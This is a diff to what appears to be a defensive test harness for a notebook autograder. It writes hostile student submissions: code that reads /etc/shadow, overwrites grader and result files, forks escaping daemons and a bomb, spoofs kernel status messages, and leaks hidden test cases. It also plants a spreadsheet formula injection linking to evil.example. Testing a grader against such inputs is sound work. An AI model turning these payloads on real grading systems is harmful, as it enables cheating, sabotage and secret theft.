@@ -55,8 +55,9 @@ import nbformat
 
 ROOT = Path(__file__).resolve().parent.parent
 BIN = Path(sys.executable).parent
-HONEST = ["ada", "bob", "cy", "dee", "eve"]
-ATTACKERS = {"judge": "fay", "bytes": "gus", "escape": "hal", "files": "ivy", "leaks": "jo"}
+# in alphabetical order (the grader's) honest students and attackers alternate: each attacker runs beside one
+HONEST = ["ada", "cy", "eve", "gus", "ivy"]
+ATTACKERS = {"judge": "bob", "bytes": "dee", "escape": "fay", "files": "hal", "leaks": "jo"}
 PRIVATE = "bench.gemm-time"
 BANK = '''"""A private question: its key never reaches a student."""
 
@@ -113,21 +114,22 @@ def attackers(release: Path, out: Path, subs: Path) -> dict[str, int]:
              "start_new_session=True, env={}, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, "
              "stderr=subprocess.DEVNULL)")
     deserved = {}
-    fay = _right(release, "fay")  # judge: right everywhere but the formula
+    judge, garbled, escaper, linker, leaker = (ATTACKERS[f] for f in ("judge", "bytes", "escape", "files", "leaks"))
+    fay = _right(release, judge)  # judge: right everywhere but the formula
     fay["l00.fma-formula"] = ("check('l00.fma-formula', '((((((n+1)**64)**64)**64)**64)**64)**64')\n"
                               "check('l00.fma-formula', 'exp(9999)+1e-99*n+1e-98*n**2+1e-97*n**3+1e-96*n**4')")
-    nbformat.write(_notebook(release, "fay", fay), subs / "fay.ipynb")
-    deserved["fay"] = 6
+    nbformat.write(_notebook(release, judge, fay), subs / f"{judge}.ipynb")
+    deserved[judge] = 6
     gus = {"l00.work-or-rate": "check('l00.work-or-rate', '\\ud800')"}  # bytes
-    nbformat.write(_notebook(release, "gus", gus, before=[
+    nbformat.write(_notebook(release, garbled, gus, before=[
         "import fcntl, os\nfor fd in range(3, 64):\n    try:\n"
         "        if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:') and "
         "fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:\n"
         "            os.write(fd, b'{\"what\": \"\\\\ud800\"}\\n')\n    except OSError:\n        pass",
         "from IPython.display import display\nnested = 1\nfor _ in range(900):\n    nested = [nested]\n"
         "display({'application/vnd.roofkit.answer+json': {'roofkit_answer': 1, 'id': 'l00.fma-flops', "
-        "'answer': nested}}, raw=True)"]), subs / "gus.ipynb")
-    deserved["gus"] = 0
+        "'answer': nested}}, raw=True)"]), subs / f"{garbled}.ipynb")
+    deserved[garbled] = 0
     daemon = ("import os, time\nf = open('held', 'wb')\nf.write(b'x' * 50_000_000)\nf.flush()\nos.unlink('held')\n"
               "blob = bytearray(100_000_000)\nwhile True:\n    if os.fork():\n        os._exit(0)\n    os.setsid()\n"
               "    end = time.time() + 0.5\n    while time.time() < end:\n        pass")
@@ -135,25 +137,25 @@ def attackers(release: Path, out: Path, subs: Path) -> dict[str, int]:
     publisher = ("import json, time, zmq\ninfo = json.load(open('/tmp/sandbox/kernel.json'))\ntime.sleep(1)\n"
                  "s = zmq.Context().socket(zmq.PUB)\ns.bind('tcp://127.0.0.1:%d' % info['iopub_port'])\n"
                  "while True:\n    s.send_multipart([b'status', b'<IDS|MSG>', b'', b'{}', b'{}', b'{}', b'{}'])")
-    target = out / "results" / "hal.json"
-    nbformat.write(_notebook(release, "hal", {}, before=[
+    target = out / "results" / f"{escaper}.json"
+    nbformat.write(_notebook(release, escaper, {}, before=[
         "import os, roofkit\nfor path in (os.path.join(os.path.dirname(roofkit.__file__), 'quiz.py'), "
         f"{str(target)!r}):\n    try:\n        open(path, 'w').write('{{}}')\n    except OSError:\n        pass",
         "raise ValueError(open('/etc/shadow').read())",
         spawn + f"\nspawn({daemon!r})\nspawn({publisher!r})\nspawn({bomb!r})\nimport time\ntime.sleep(3)"],
-        after=["import os\nos._exit(0)"]), subs / "hal.ipynb")
-    deserved["hal"] = 0
-    os.symlink(subs / "ada.ipynb", subs / "ivy.ipynb")  # files: a link to a classmate's notebook
-    nbformat.write(_notebook(release, "ivy", _right(release, "ivy")), subs / "ivy!.ipynb")  # and an odd name
-    deserved["ivy"] = 0
-    jo = _right(release, "jo")  # leaks: a function that names hidden cases; a private key's size, asked for
+        after=["import os\nos._exit(0)"]), subs / f"{escaper}.ipynb")
+    deserved[escaper] = 0
+    os.symlink(subs / f"{HONEST[0]}.ipynb", subs / f"{linker}.ipynb")  # files: a link to a classmate's notebook
+    nbformat.write(_notebook(release, linker, _right(release, linker)), subs / f"{linker}!.ipynb")  # an odd name
+    deserved[linker] = 0
+    jo = _right(release, leaker)  # leaks: a function that names hidden cases; a private key's size, asked for
     jo["l00.code-flops"] = ("def fma_flops(fmas):\n    if fmas in (1, 7, 1000):\n        return 2 * fmas\n"
                             "    raise type('HIDDEN_' + repr(fmas), (Exception,), {})(repr(fmas))\n\n"
                             "check('l00.code-flops', fma_flops)")
     jo[PRIVATE] = f"check({PRIVATE!r}, '1 s')"
-    nbformat.write(_notebook(release, "jo", jo), subs / "jo.ipynb")
+    nbformat.write(_notebook(release, leaker, jo), subs / f"{leaker}.ipynb")
     code = quiz.get("l00.code-flops")
-    deserved["jo"] = 4 + len(code.cases) / (len(code.cases) + len(code.hidden_cases))
+    deserved[leaker] = 4 + len(code.cases) / (len(code.cases) + len(code.hidden_cases))
     return deserved
 
 
@@ -221,7 +223,7 @@ def main() -> None:
             writer = csv.writer(file)
             writer.writerow(["id", "name", "email"])
             for s in students:
-                name = '=HYPERLINK("http://evil.example","grades")' if s == "gus" else s.title()
+                name = '=HYPERLINK("http://evil.example","grades")' if s == ATTACKERS["bytes"] else s.title()
                 writer.writerow([s, name, f"{s}@example.org"])
         (folder / "bank.py").write_text(BANK, encoding="utf-8")
         secret, release = folder / "secret.txt", folder / "release"
